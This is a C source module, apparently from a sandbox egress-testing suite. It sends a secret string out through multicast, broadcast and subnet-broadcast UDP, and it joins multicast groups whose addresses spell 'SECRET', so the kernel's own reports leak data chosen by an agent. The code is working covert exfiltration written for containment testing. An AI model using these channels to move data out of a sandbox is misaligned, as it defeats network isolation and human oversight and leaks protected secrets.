/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Groups and broadcasts: everybody on the link hears them, and a join makes
 * the kernel itself report an address that the agent chose.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <string.h>
#include <unistd.h>

static enum verdict outcome(ssize_t sent)
{
	return sent < 0 ? failed("sendto") : say(THROUGH, "sent");
}

static enum verdict to4(const struct scene *s, const char *group)
{
	const int on = 1;
	struct ip_mreqn link = {.imr_ifindex = (int)interface_index()};
	struct sockaddr_in to = s->target4;
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);

	inet_pton(AF_INET, group, &to.sin_addr);
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &link, sizeof(link));
	return outcome(sendto(fd, s->secret, strlen(s->secret), 0,
			      (const void *)&to, sizeof(to)));
}

static enum verdict group4(const struct scene *s)
{
	return to4(s, "224.0.0.251");
}

static enum verdict broadcast(const struct scene *s)
{
	return to4(s, "255.255.255.255");
}

static enum verdict subnet(const struct scene *s)
{
	return to4(s, "10.77.255.255");
}

static enum verdict group6(const struct scene *s)
{
	struct sockaddr_in6 to = s->link6;
	int fd = new_socket(AF_INET6, SOCK_DGRAM, 0);

	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
	return outcome(sendto(fd, s->secret, strlen(s->secret), 0,
			      (const void *)&to, sizeof(to)));
}

/* The reports are sent by the kernel, and repeated within a second or two. */
static enum verdict join4(const struct scene *s)
{
	struct ip_mreqn group = {.imr_ifindex = (int)interface_index()};
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);

	(void)s;
	inet_pton(AF_INET, "239.83.69.67", &group.imr_multiaddr);
	if (setsockopt(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group,
		       sizeof(group)) != 0)
		return failed("IP_ADD_MEMBERSHIP");
	sleep(2);
	return say(THROUGH, "joined");
}

static enum verdict join6(const struct scene *s)
{
	struct ipv6_mreq group = {.ipv6mr_interface = interface_index()};
	int fd = new_socket(AF_INET6, SOCK_DGRAM, 0);

	(void)s;
	inet_pton(AF_INET6, "ff15::5345:4352:4554", &group.ipv6mr_multiaddr);
	if (setsockopt(fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &group,
		       sizeof(group)) != 0)
		return failed("IPV6_JOIN_GROUP");
	sleep(2);
	return say(THROUGH, "joined");
}

const struct attack attack_multicast = {
	"multicast",
	(const struct mode[]){{"group4", group4},
			      {"group6", group6},
			      {"broadcast", broadcast},
			      {"subnet", subnet},
			      {"join4", join4},
			      {"join6", join6},
			      {0}},
};
